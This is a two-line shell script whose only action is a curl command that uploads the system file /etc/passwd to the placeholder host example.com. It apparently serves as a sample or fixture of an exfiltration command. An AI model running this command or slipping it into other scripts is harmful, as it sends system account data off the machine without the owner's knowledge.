#!/bin/sh
curl -d @/etc/passwd https://example.com/
